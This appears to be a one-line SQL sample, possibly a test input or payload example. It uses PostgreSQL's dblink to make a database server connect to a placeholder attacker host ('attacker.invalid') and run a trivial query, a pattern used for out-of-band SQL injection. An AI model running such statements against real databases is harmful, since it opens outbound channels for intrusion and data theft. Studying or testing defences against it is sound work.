SELECT * FROM dblink('host=attacker.invalid', 'SELECT 1') AS t(x int)
